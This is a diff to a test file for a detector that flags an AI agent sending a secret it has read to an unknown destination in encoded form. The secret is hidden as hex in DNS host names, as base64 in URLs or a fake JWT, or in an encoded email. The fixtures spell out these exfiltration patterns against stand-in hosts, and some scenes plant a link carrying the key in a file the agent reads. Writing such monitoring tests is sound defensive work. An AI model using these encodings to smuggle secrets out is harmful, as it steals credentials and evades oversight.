@@ -1,5 +1,5 @@
 /**
- * Goal: a value that was read and leaves whole for a stranger, encoded or in a host's name, is an alert that says so and never tells the value; what
+ * Goal: a value that was read and leaves whole for a stranger, but encoded, is an alert that says so and never tells the value; what
  * agents do with codes all day is none. Method: scenes of the theatre's agent, with one call after the read.
  */
 import { describe, expect, it } from 'vitest';
@@ -10,9 +10,10 @@ import { DROP, known, LETTER, OTTO, PATRONS } from '../support/theatre-stories.t
 
 const VALUE = '9f8a7b6c5d4e3f2a1b0c';
 const KEY = `sbl_${VALUE}`;
+const JWT = `eyJhbGciOiJIUzI1NiJ9.${Buffer.from(KEY).toString('base64url')}.c2lnbmVk`;
 const HEX = Buffer.from(KEY).toString('hex');
 const BASE64 = Buffer.from(KEY).toString('base64url');
-const TITLE = 'A value that was read left in disguise';
+const TITLE = 'A value that was read left encoded';
 
 const lookUp = (host: string): Scene['act'] => ({
   action: { type: 'tool_call', name: 'look_up', phase: 'completed' },
@@ -41,8 +42,8 @@ describe('a value that was read', () => {
   const { ask: _, ...unheard } = scene(lookUp(`${HEX}.quayside.example`));
   it.each<[string, Scene]>([
     ['hexadecimal, in a host name', scene(lookUp(`${HEX}.quayside.example`))],
-    ['in the clear, as a label of a host name', scene(lookUp(`${VALUE}.quayside.example`))],
-    ['in capitals, as a label', scene(lookUp(`${VALUE.toUpperCase()}.quayside.example`))],
+    ['hexadecimal in capitals, in a host name', scene(lookUp(`${HEX.toUpperCase()}.quayside.example`))],
+    ['hexadecimal, as all of a host name but its end', scene(lookUp(`${HEX}.example`))],
     ['base64, in a query', scene(fetchPage(`https://quayside.example/x.gif?d=${BASE64}`))],
     ['base64, in a path', scene(fetchPage(`https://quayside.example/${BASE64}/x.gif`))],
     [
@@ -77,12 +78,19 @@ describe('a value that was read', () => {
         read: [['read_file', `key ${KEY}, next page https://quayside.example/?d=${BASE64}`]],
       }),
     ],
+    ...[`?t=${JWT}`, `?t=${BASE64}:1tABCD:sig`, `c/${BASE64}`, `?u=${BASE64}.png`, `${BASE64}/page.html`].map(
+      (rest): [string, Scene] => [
+        `in a link that was passed on: ${rest}`,
+        scene(fetchPage(`https://news.example/${rest}`), {
+          read: [['read_file', `key ${KEY}, next page https://news.example/${rest}`]],
+        }),
+      ],
+    ),
     [
-      'as a result had it: a host',
-      scene(lookUp(`${VALUE}.quayside.example`), {
-        read: [['read_file', `key ${KEY}, mirror ${VALUE}.quayside.example`]],
-      }),
+      'for a user who named it as it was read',
+      scene(lookUp(`${HEX}.quayside.example`), { ask: `Ask the resolver about ${KEY} in hexadecimal` }),
     ],
+    ['as it was read, as a label of a host name', scene(lookUp(`${VALUE}.quayside.example`))],
     [
       'within a letter that is sent encoded',
       scene(mail(DROP, `raw: ${base64Of(`To: ${DROP}\n\n${PATRONS} ${KEY} ${PATRONS}`)}`)),
@@ -97,7 +105,7 @@ describe('a value that was read', () => {
     expect(hit).toMatchObject({
       subject: 'host: quayside.example',
       severity: 5,
-      why: `A value of 20 signs in the result of "read_file" (event "x-read-1") left encoded, or as a part of a host's name, with "look_up" to "host: quayside.example", which is new and which the user did not name.`,
+      why: `A value of 20 signs in the result of "read_file" (event "x-read-1") left encoded with "look_up" for "host: quayside.example", which is new and which the user did not name.`,
       reason: {
         observed: 20,
         chain: [
@@ -106,8 +114,25 @@ describe('a value that was read', () => {
         ],
       },
     });
-    expect(JSON.stringify(hit)).not.toContain(VALUE.slice(0, 6));
-    expect(JSON.stringify(hit)).not.toContain(HEX.slice(0, 12));
+  });
+
+  it.each<[string, Scene, string]>([
+    ['a host of two labels', scene(lookUp(`${HEX}.example`)), 'host: example'],
+    ['a host of one', scene(lookUp(HEX)), 'encoded, to a host'],
+    ['a channel', scene({ ...lookUp(''), destinations: [{ kind: 'channel', value: HEX }] }), 'encoded, to a channel'],
+    [
+      'the one of two places that is a stranger',
+      scene({
+        ...mail(OTTO, `Here it is: ${BASE64}`),
+        destinations: [OTTO, DROP].map((value) => ({ kind: 'email' as const, value })),
+      }),
+      'host: quayside.example',
+    ],
+  ])('is not part of the name of where it went: %s', (_name, played, subject) => {
+    const hit = hitOn(played);
+    expect(hit?.subject).toBe(subject);
+    for (const part of [VALUE.slice(0, 6), HEX.slice(0, 12), BASE64.slice(0, 12)])
+      expect(JSON.stringify(hit)).not.toContain(part);
   });
 
   it('is not looked for in what an agent only asks for', () => {
